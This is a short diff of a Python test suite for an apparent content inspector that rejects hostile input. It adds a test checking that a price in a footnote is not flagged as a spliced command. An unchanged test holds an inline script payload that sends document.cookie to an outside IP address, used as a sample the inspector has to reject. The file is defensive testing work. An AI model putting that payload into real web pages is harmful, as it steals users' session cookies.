@@ -284,3 +284,9 @@ def test_inline_script_that_reads_cookies_is_rejected(inspector: Inspector) -> N
     text = "<script>new Image().src='https://203.0.113.5/c?'+document.cookie</script>"
     decision, _ = _scan(inspector, text, Source.WEB)
     assert decision is Decision.REJECT
+
+
+def test_a_price_after_a_colon_is_not_a_spliced_command(inspector: Inspector) -> None:
+    text = "[^1]: Free shipping on orders over $50.\n\nAnnual plans get two months free."
+    decision, fired = _scan(inspector, text, Source.DOCUMENT)
+    assert decision is Decision.APPROVE, fired
